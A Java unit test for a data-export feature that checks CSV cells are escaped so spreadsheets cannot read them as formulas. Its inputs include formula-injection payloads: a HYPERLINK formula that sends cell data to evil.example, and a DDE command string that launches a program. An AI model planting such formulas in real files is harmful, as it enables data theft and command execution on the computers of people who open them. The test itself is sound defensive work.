package dev.oubli.privacy.export;

import org.junit.jupiter.api.Test;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.Map;
import java.util.UUID;

import static org.assertj.core.api.Assertions.assertThat;

/** The bundle's CSV files open in spreadsheets: no cell an owner's data fills may be read as a formula. */
class ExportBundleZipTest {

    @Test
    void quotesEveryTextCellThatASpreadsheetWouldReadAsAFormula() throws Exception {
        byte[] part = """
                {"records": {"contacts": [
                  {"id": "c-1", "company": "=HYPERLINK(\\"https://evil.example/?d=\\"&A1,\\"Open\\")", "note": "+33 1 23", "tag": "-1+2",
                   "city": "@SUM(A1)", "title": "\\tTab", "bio": "\\rCR", "score": -3, "plain": "Ada"}],
                 "=cmd|' /C calc'!A0": [{"x": "1"}]}}""".getBytes(StandardCharsets.UTF_8);

        Map<String, byte[]> files = ExportBundleTest.unzip(zip(part));

        String contacts = new String(files.get("owner/contacts.csv"), StandardCharsets.UTF_8);
        assertThat(contacts.lines().findFirst()).hasValue("id,company,note,tag,city,title,bio,score,plain");
        assertThat(contacts).contains("'=HYPERLINK(", "'+33 1 23", "'-1+2", "'@SUM(A1)", "'\tTab", "'\rCR", ",Ada");
        // A number stays a number: -3 cannot be a formula.
        assertThat(contacts).contains(",-3,");
        assertThat(contacts).doesNotContain(",=HYPERLINK", ",+33", ",@SUM", ",-1+2");
        // The table name is the owner's too: it becomes a plain file name, and its header cells are quoted likewise.
        assertThat(files).containsKey("owner/_cmd____C_calc__A0.csv");
        // The owner's JSON is its data as sent: unchanged.
        assertThat(files.get("owner.json")).isEqualTo(part);
    }

    @Test
    void quotesAHeaderCellThatASpreadsheetWouldReadAsAFormula() throws Exception {
        byte[] part = "{\"records\": {\"t\": [{\"=1+1\": \"a\"}]}}".getBytes(StandardCharsets.UTF_8);

        String csv = new String(ExportBundleTest.unzip(zip(part)).get("owner/t.csv"), StandardCharsets.UTF_8);

        assertThat(csv).isEqualTo("'=1+1\r\na\r\n");
    }

    @Test
    void opensWithAHumanReadableIndexNamingEachFileAndWhatItHolds() throws Exception {
        byte[] contacts = "{\"records\": {\"contacts\": [{\"id\": \"c-1\"}], \"consents\": []}}".getBytes(StandardCharsets.UTF_8);
        byte[] knowledge = "{\"records\": {\"conversations\": [{\"id\": \"v-1\"}, {\"id\": \"v-2\"}], \"notes\": [{\"id\": \"n-1\"}]}}"
                .getBytes(StandardCharsets.UTF_8);
        ByteArrayOutputStream zip = new ByteArrayOutputStream();
        ExportBundleZip.assemble(UUID.randomUUID(), new java.util.TreeMap<>(Map.of("contacts-service", contacts, "knowledge-service", knowledge)),
                Instant.now(), zip);

        String index = new String(ExportBundleTest.unzip(zip.toByteArray()).get(ExportBundleZip.INDEX), StandardCharsets.UTF_8);

        assertThat(index).contains("contacts-service.json", "contacts-service/contacts.csv", "contact card", "1 record",
                "knowledge-service/conversations.csv", "conversation logs", "2 records", "knowledge-service/notes.csv", "notes",
                "contacts-service/consents.csv", "0 records", "manifest.json");
    }

    static byte[] zip(byte[] part) throws Exception {
        ByteArrayOutputStream zip = new ByteArrayOutputStream();
        ExportBundleZip.assemble(UUID.randomUUID(), Map.of("owner", part), Instant.now(), zip);
        return zip.toByteArray();
    }
}
